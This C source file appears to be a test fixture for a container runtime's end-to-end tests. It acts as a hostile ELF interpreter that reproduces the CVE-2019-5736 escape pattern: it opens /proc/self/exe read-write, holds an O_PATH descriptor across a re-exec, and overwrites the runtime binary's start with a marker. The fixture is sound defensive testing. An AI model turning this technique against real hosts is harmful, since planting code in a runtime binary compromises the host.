/*
 * A hostile image's ELF interpreter, for e2e/exe.test.ts (the CVE-2019-5736 shape).
 * Installed as /lib64/ld-linux-x86-64.so.2 in a test rootfs whose command is
 * /proc/self/exe: the init's execve runs the runtime's own binary (node, dynamically
 * linked) with this as its interpreter, so /proc/self/exe here is the init's executable.
 *
 * Stage 1 (as node's interpreter): clears the parent-death signal (so the container
 * outlives the runtime), tries /proc/self/exe read-write (and writing), keeps an O_PATH fd to it as
 * fd 9, and execs itself as stage 2 (no longer running node: no ETXTBSY from us).
 * Stage 2: creates /out/ready, waits for /out/go (the test writes it once every
 * process running the runtime's binary has exited), then opens /proc/self/fd/9
 * read-write (and, if that works, overwrites the first bytes: a real attack would
 * plant code) and writes what happened to /out/result.
 *
 * Freestanding x86_64 (no libc): a static glibc would set itself up from node's
 * auxiliary vector. Build: gcc -static-pie -nostdlib -ffreestanding -fno-stack-protector -O2
 */

#define SYS_read 0
#define SYS_write 1
#define SYS_open 2
#define SYS_close 3
#define SYS_nanosleep 35
#define SYS_dup2 33
#define SYS_execve 59
#define SYS_exit 60
#define SYS_rename 82
#define SYS_readlink 89
#define SYS_prctl 157

#define O_WRONLY 01
#define O_RDWR 02
#define O_CREAT 0100
#define O_TRUNC 01000
#define O_CLOEXEC 02000000
#define O_PATH 010000000
#define PR_SET_PDEATHSIG 1
#define KEPT_FD 9

static long sys6(long n, long a, long b, long c, long d) {
  register long r10 __asm__("r10") = d;
  long ret;
  __asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
  return ret;
}
#define sys3(n, a, b, c) sys6(n, (long)(a), (long)(b), (long)(c), 0)

static int same(const char *a, const char *b) {
  while (*a && *a == *b) a++, b++;
  return *a == *b;
}

/* Appends s to buf at *at. */
static void put(char *buf, long *at, const char *s) {
  while (*s && *at < 4000) buf[(*at)++] = *s++;
}

static void putnum(char *buf, long *at, long v) {
  char tmp[24];
  int i = 0;
  int neg = v < 0;
  unsigned long u = neg ? -v : v;
  do tmp[i++] = '0' + u % 10; while ((u /= 10) && i < 22);
  if (neg) tmp[i++] = '-';
  while (i > 0 && *at < 4000) buf[(*at)++] = tmp[--i];
}

/* Writes /out/<name> whole: through /out/tmp and a rename, so the test never reads half of it. */
static void save(const char *name, const char *buf, long n) {
  char path[64] = "/out/";
  long at = 5;
  put(path, &at, name);
  path[at] = 0;
  long fd = sys3(SYS_open, "/out/tmp", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) return;
  sys3(SYS_write, fd, buf, n);
  sys3(SYS_close, fd, 0, 0);
  sys3(SYS_rename, "/out/tmp", path, 0);
}

static void line_link(char *buf, long *at, const char *name, const char *path) {
  char link[1024];
  long n = sys3(SYS_readlink, path, link, sizeof link - 1);
  put(buf, at, name);
  if (n >= 0) {
    link[n] = 0;
    put(buf, at, link);
  } else {
    putnum(buf, at, n);
  }
  put(buf, at, "\n");
}

/* A "<key> <value>" line. */
static void line_num(char *buf, long *at, const char *key, long v) {
  put(buf, at, key);
  putnum(buf, at, v);
  put(buf, at, "\n");
}

/* Opens path read-write ("<key> <fd or -errno>"), and if that works writes over its start ("<key>-write <n>"), then "<key>-link". */
static void attack(char *buf, long *at, const char *key, const char *write_key, const char *link_key, const char *path) {
  long rw = sys3(SYS_open, path, O_RDWR | O_CLOEXEC, 0);
  line_num(buf, at, key, rw);
  if (rw >= 0) line_num(buf, at, write_key, sys3(SYS_write, rw, "PWNED", 5));
  line_link(buf, at, link_key, path);
}

static void stage1(void) {
  char buf[4096];
  long at = 0;
  sys6(SYS_prctl, PR_SET_PDEATHSIG, 0, 0, 0);
  attack(buf, &at, "exe ", "exe-write ", "exe-link ", "/proc/self/exe");
  long fd = sys3(SYS_open, "/proc/self/exe", O_PATH, 0);
  line_num(buf, &at, "opath ", fd);
  save("stage1", buf, at);
  if (fd >= 0 && fd != KEPT_FD) {
    sys3(SYS_dup2, fd, KEPT_FD, 0);
    sys3(SYS_close, fd, 0, 0);
  }
  char *argv[] = {"hostile", "stage2", 0};
  char *envp[] = {0};
  sys3(SYS_execve, "/lib64/ld-linux-x86-64.so.2", argv, envp);
}

static void stage2(void) {
  char buf[4096];
  long at = 0;
  save("ready", "", 0);
  struct { long sec, nsec; } tick = {0, 100000000};
  for (int i = 0; i < 1200; i++) {
    long go = sys3(SYS_open, "/out/go", O_CLOEXEC, 0);
    if (go >= 0) {
      sys3(SYS_close, go, 0, 0);
      break;
    }
    sys3(SYS_nanosleep, &tick, 0, 0);
  }
  attack(buf, &at, "fd ", "fd-write ", "fd-link ", "/proc/self/fd/9");
  save("result", buf, at);
}

void entry(long *sp) {
  long argc = sp[0];
  char **argv = (char **)(sp + 1);
  if (argc >= 2 && same(argv[1], "stage2")) stage2();
  else stage1();
  sys3(SYS_exit, 0, 0, 0);
}

__asm__(".globl _start\n_start:\n  mov %rsp, %rdi\n  and $-16, %rsp\n  call entry\n  hlt\n");
